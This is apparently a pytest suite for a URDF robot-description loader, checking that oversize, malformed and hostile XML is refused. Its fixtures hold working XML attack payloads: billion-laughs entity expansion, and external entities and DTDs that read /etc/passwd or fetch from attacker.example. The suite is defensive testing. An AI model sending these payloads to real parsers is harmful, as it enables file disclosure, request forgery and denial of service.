"""load_urdf: hostile, oversize and structurally invalid input is refused with a URDFError."""
import re
import socket
import urllib.request
from pathlib import Path

import pytest
import yourdfpy

from urdfkb.pipeline.errors import URDFError
from urdfkb.pipeline.reading.ingest import load_urdf
from urdfkb.settings import MAX_BYTES

GOOD = b"""<?xml version="1.0"?>
<!-- xacro leftovers: <xacro:property name="x" value="1"/> ${x} -->
<robot name="demo" xmlns:xacro="http://ros.org/wiki/xacro">
  <material name="blue"><color rgba="0 0 1 1"/></material>
  <link name="base">
    <visual><geometry><mesh filename="package://demo/meshes/missing.dae"/></geometry>
      <material name="blue"/></visual>
  </link>
  <link name="arm"><collision><geometry><cylinder radius="0.1" length="1"/></geometry></collision></link>
  <link name="camera"/>
  <joint name="shoulder" type="revolute">
    <parent link="base"/><child link="arm"/>
    <origin xyz="0 0 1" rpy="0 0 3.14159265359"/>
    <axis xyz="0 0 1"/>
    <limit lower="-1" upper="1" effort="10" velocity="1"/>
  </joint>
  <joint name="camera_joint" type="fixed">
    <parent link="arm"/><child link="camera"/>
    <origin xyz="0.5 0 0"/>
  </joint>
  <gazebo reference="camera"><sensor type="camera" name="cam"><update_rate>30</update_rate></sensor></gazebo>
  <transmission name="t"><type>transmission_interface/SimpleTransmission</type>
    <joint name="shoulder"><hardwareInterface>EffortJointInterface</hardwareInterface></joint>
  </transmission>
</robot>
"""


def robot(body: str, attrs: str = 'name="r"') -> bytes:
    return f'<?xml version="1.0"?>\n<robot {attrs}>\n{body}\n</robot>\n'.encode()


def chain(joint: str = '<joint name="j" type="fixed"><parent link="a"/><child link="b"/></joint>') -> bytes:
    return robot(f'<link name="a"/><link name="b"/>{joint}')


def refused(source, match: str, **kwargs) -> URDFError:
    with pytest.raises(URDFError, match=match) as info:
        load_urdf(source, **kwargs)
    return info.value


@pytest.fixture
def no_network(monkeypatch):
    """Fail the test if anything tries to open a connection or a URL."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"network access attempted: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    yield attempts
    assert attempts == []


# -- accepted input ----------------------------------------------------------------------


def test_real_world_features_are_accepted():
    tree = load_urdf(GOOD)
    assert tree.robot_name == "demo"
    assert tree.links == ("base", "arm", "camera")
    assert [(e.joint, e.joint_type, e.parent, e.child) for e in tree.edges] == [
        ("shoulder", "revolute", "base", "arm"),
        ("camera_joint", "fixed", "arm", "camera"),
    ]


def test_origins_are_kept_as_written():
    shoulder, camera = load_urdf(GOOD).edges
    assert shoulder.origin.xyz == (0.0, 0.0, 1.0) and shoulder.origin.rpy == (0.0, 0.0, 3.14159265359)
    assert camera.origin.rpy == (0.0, 0.0, 0.0)


def test_missing_origin_is_identity():
    (edge,) = load_urdf(chain()).edges
    assert edge.origin.xyz == (0.0, 0.0, 0.0) and edge.origin.rpy == (0.0, 0.0, 0.0)


def test_path_str_pathlike_and_bytes_agree(tmp_path):
    path = tmp_path / "demo.urdf"
    path.write_bytes(GOOD)
    assert load_urdf(path) == load_urdf(str(path)) == load_urdf(GOOD)


def test_document_of_exactly_max_bytes_is_accepted():
    assert load_urdf(GOOD, max_bytes=len(GOOD)).root == "base"


def test_without_a_limit_given_ten_megabytes_are_the_most_accepted():
    refused(b"<" * 10_000_001, "too large: over the 10000000-byte limit")


# -- hostile input -------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE robot [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<robot name="&lol9;"><link name="a"/></robot>
"""


def external_entity(url: str) -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE robot [ <!ENTITY xxe SYSTEM "{url}"> ]>
<robot name="r"><link name="&xxe;"/></robot>
""".encode()


def star(links: int, extra_joints: int = 0) -> bytes:
    """A base link with `links - 1` children (and `extra_joints` more joints naming nobody)."""
    body = ['<link name="base"/>'] + [f'<link name="l{i}"/>' for i in range(1, links)]
    body += [f'<joint name="j{i}" type="fixed"><parent link="base"/><child link="l{i}"/></joint>' for i in range(1, links)]
    body += [f'<joint name="x{i}" type="fixed"><parent link="base"/><child link="nobody"/></joint>' for i in range(extra_joints)]
    return robot("".join(body))


def test_link_count_limit_is_generous_for_real_robots():
    refused(star(5_001), "too many links: 5001, over the limit of 5000")  # the default, as the README says
    assert len(load_urdf(star(200)).links) == 200
    assert len(load_urdf(star(50), max_links=50).links) == 50


@pytest.mark.slow  # over a second of its own (make test-fast leaves it out)
def test_too_many_links_are_refused_before_any_per_element_work():
    """50,000 links (5 MB, under the byte limit) would hold the store for minutes."""
    document = star(50_000)
    assert len(document) < MAX_BYTES
    error = refused(document, "too many links: 50000, over the limit of 5000")
    assert error.element == "robot"
    refused(star(101), "too many links: 101, over the limit of 100", max_links=100)


def test_too_many_joints_are_refused():
    refused(star(10, extra_joints=200), "too many joints: 209, over the limit of 100", max_links=100)


def test_billion_laughs_is_refused_without_expansion():
    error = refused(BILLION_LAUGHS, "entity declaration 'lol' refused.*billion laughs")  # at the declaration
    assert error.element == "DOCTYPE"


def test_external_file_entity_is_refused(no_network):
    error = refused(external_entity("file:///etc/passwd"), "external entity 'xxe'.*file:///etc/passwd.*nothing was fetched")
    assert "root:" not in str(error)


def test_external_http_entity_is_refused_and_not_fetched(no_network):
    refused(external_entity("http://attacker.example/x"), "external entity 'xxe'.*http://attacker.example/x")


def test_external_parameter_entity_is_refused(no_network):
    doc = b"""<?xml version="1.0"?>
<!DOCTYPE robot [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<robot name="r"><link name="a"/></robot>"""
    refused(doc, "external entity 'remote'.*nothing was fetched")


def test_external_dtd_is_refused_and_not_fetched(no_network):
    doc = b'<?xml version="1.0"?>\n<!DOCTYPE robot SYSTEM "http://attacker.example/robot.dtd">\n<robot name="r"><link name="a"/></robot>'
    refused(doc, r"DTD\) referring to 'http://attacker.example/robot.dtd' refused")


def test_plain_dtd_is_refused():
    doc = b'<?xml version="1.0"?>\n<!DOCTYPE robot>\n<robot name="r"><link name="a"/></robot>'
    refused(doc, r"document type declaration \(DTD\) refused")


# -- size -----------------------------------------------------------------------------------


def test_oversize_bytes_are_refused_before_parsing():
    refused(b"<" * 101, "too large: over the 100-byte limit", max_bytes=100)


def test_oversize_file_is_refused_before_parsing(tmp_path):
    path = tmp_path / "big.urdf"
    path.write_bytes(GOOD + b" " * 100)
    error = refused(path, "too large", max_bytes=len(GOOD))
    assert error.element == str(path)


def test_endless_file_is_read_only_up_to_the_limit():
    """/dev/zero reports size 0 to stat; the bounded read still stops at max_bytes + 1."""
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    refused("/dev/zero", "too large", max_bytes=1000)


def test_missing_file_is_refused(tmp_path):
    refused(tmp_path / "absent.urdf", "cannot read URDF file")


def test_xml_text_passed_as_path_gets_a_hint():
    refused(GOOD.decode(), "pass it as bytes")


# -- not a URDF -----------------------------------------------------------------------------


def test_not_xml_reports_line_and_column():
    error = refused(b'<robot name="r">\n  <link name="a">\n</robot>\n', "not XML: mismatched tag")
    assert error.element == "line 3, column 3"


def test_empty_document_is_not_xml():
    refused(b"", "not XML: no element found")


def test_no_robot_element():
    error = refused(b'<model name="r"><link name="a"/></model>', "root element is <model>, not <robot>")
    assert error.element == "<model>"


def test_robot_without_name():
    refused(robot('<link name="a"/>', attrs='version="1.0"'), "<robot> has no name")


@pytest.mark.parametrize("version, message", [("one", "malformed version"), ("2.0", "unsupported URDF version")])
def test_bad_version(version, message):
    refused(robot('<link name="a"/>', attrs=f'name="r" version="{version}"'), message)


def test_no_links():
    refused(robot(""), "robot has no links")


def test_link_without_name():
    error = refused(robot('<link name="a"/><link/>'), "<link> has no name")
    assert error.element == "link #2"


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200d"])
def test_a_link_name_with_a_bidi_or_zero_width_character_is_refused(char):
    """A right-to-left override (U+202E) or an isolate (U+2066) makes a name display as another."""
    name = f"gripper{char}tfel"
    error = refused(robot(f'<link name="a"/><link name="{name}"/>'),
                    re.escape(f"<link> name {name!r} holds the format character U+{ord(char):04X}"))
    assert "\\u" in str(error) and char not in str(error)  # the name is shown escaped
    assert error.element == "link #2"


def test_duplicate_link_names():
    error = refused(robot('<link name="a"/><link name="a"/>'), "duplicate link name 'a'")
    assert error.element == "link 'a'"


def test_duplicate_joint_names():
    body = (
        '<link name="a"/><link name="b"/><link name="c"/>'
        '<joint name="j" type="fixed"><parent link="a"/><child link="b"/></joint>'
        '<joint name="j" type="fixed"><parent link="a"/><child link="c"/></joint>'
    )
    refused(robot(body), "duplicate joint name 'j'")


def test_joint_without_type():
    error = refused(chain('<joint name="j"><parent link="a"/><child link="b"/></joint>'), "joint has no type")
    assert error.element == "joint 'j'"


def test_unknown_joint_type():
    refused(chain('<joint name="j" type="spring"><parent link="a"/><child link="b"/></joint>'), "unknown joint type 'spring'")


@pytest.mark.parametrize("role, joint", [
    ("parent", '<joint name="j" type="fixed"><child link="b"/></joint>'),
    ("child", '<joint name="j" type="fixed"><parent link="a"/></joint>'),
    ("child", '<joint name="j" type="fixed"><parent link="a"/><child/></joint>'),
])
def test_joint_missing_parent_or_child(role, joint):
    refused(chain(joint), f"joint has no <{role} link=")


@pytest.mark.parametrize("role", ["parent", "child"])
def test_joint_naming_unknown_link(role):
    ends = {"parent": "a", "child": "b", role: "ghost"}
    joint = f'<joint name="j" type="fixed"><parent link="{ends["parent"]}"/><child link="{ends["child"]}"/></joint>'
    error = refused(chain(joint), f"joint 'j' names unknown {role} link 'ghost'")
    assert error.element == "joint 'j'"


def test_several_roots_are_named():
    refused(robot('<link name="r1"/><link name="r2"/><link name="r3"/>'), "several root links: r1, r2, r3")


def test_cycle_without_root():
    body = (
        '<link name="a"/><link name="b"/>'
        '<joint name="j1" type="fixed"><parent link="a"/><child link="b"/></joint>'
        '<joint name="j2" type="fixed"><parent link="b"/><child link="a"/></joint>'
    )
    refused(robot(body), "cycle through links a -> b -> a")


def test_cycle_beside_a_root():
    body = (
        '<link name="root"/><link name="a"/><link name="b"/><link name="c"/>'
        '<joint name="j1" type="fixed"><parent link="a"/><child link="b"/></joint>'
        '<joint name="j2" type="fixed"><parent link="b"/><child link="c"/></joint>'
        '<joint name="j3" type="fixed"><parent link="c"/><child link="a"/></joint>'
    )
    refused(robot(body), "cycle through links a -> c -> b -> a")


def test_link_with_two_parents():
    body = (
        '<link name="a"/><link name="b"/><link name="c"/>'
        '<joint name="j1" type="fixed"><parent link="a"/><child link="c"/></joint>'
        '<joint name="j2" type="fixed"><parent link="b"/><child link="c"/></joint>'
    )
    error = refused(robot(body), "link 'c' has two parents: 'a' and 'b'")
    assert error.element == "joint 'j2'"


@pytest.mark.parametrize("kind", ["revolute", "prismatic"])
def test_moving_joint_without_limit(kind):
    refused(chain(f'<joint name="j" type="{kind}"><parent link="a"/><child link="b"/></joint>'), f"{kind} joint has no <limit>")


@pytest.mark.parametrize("kind", ["continuous", "fixed", "floating", "planar"])
def test_other_joint_types_need_no_limit(kind):
    (edge,) = load_urdf(chain(f'<joint name="j" type="{kind}"><parent link="a"/><child link="b"/></joint>')).edges
    assert edge.joint_type == kind


@pytest.mark.parametrize("element, message", [
    ('<origin xyz="1 2"/>', "xyz='1 2' is not 3 numbers"),
    ('<origin rpy="0 0 x"/>', "rpy='0 0 x' is not 3 numbers"),
    ('<axis xyz="nan 0 1"/>', "is not 3 numbers"),
    ('<limit effort="1"/>', "lacks required attribute 'velocity'"),
    ('<limit effort="1" velocity="1" lower="low"/>', "lower='low' is not a number"),
    ("<dynamics/>", "needs one of damping or friction"),
    ('<mimic multiplier="2"/>', "lacks required attribute 'joint'"),
])
def test_malformed_joint_details(element, message):
    joint = f'<joint name="j" type="continuous"><parent link="a"/><child link="b"/>{element}</joint>'
    error = refused(chain(joint), message)
    assert error.element == "joint 'j'"


def test_duplicate_global_material():
    body = '<material name="red"><color rgba="1 0 0 1"/></material>' * 2 + '<link name="a"/>'
    refused(robot(body), "duplicate global material 'red'")


def test_invalid_geometry_is_dropped_like_urdfdom():
    body = '<link name="a"><visual><geometry><torus/></geometry></visual><collision><geometry><box/></geometry></collision></link>'
    assert load_urdf(robot(body)).links == ("a",)


def test_deep_nesting_is_refused():
    deep = "<x>" * 150 + "</x>" * 150
    refused(robot(f'<link name="a"/><gazebo>{deep}</gazebo>'), "nested deeper than 100 levels")


def test_yourdfpy_disagreeing_with_validation_is_refused(monkeypatch):
    real_load = yourdfpy.URDF.load

    def lossy_load(*args, **kwargs):
        model = real_load(*args, **kwargs)
        model.robot.joints.pop()
        return model

    monkeypatch.setattr(yourdfpy.URDF, "load", staticmethod(lossy_load))
    refused(GOOD, "yourdfpy read other links or joints than were validated")


def test_malformed_data_yourdfpy_reads_is_refused():
    refused(robot('<link name="a"><inertial><mass value="heavy"/></inertial></link>'), "yourdfpy could not read")
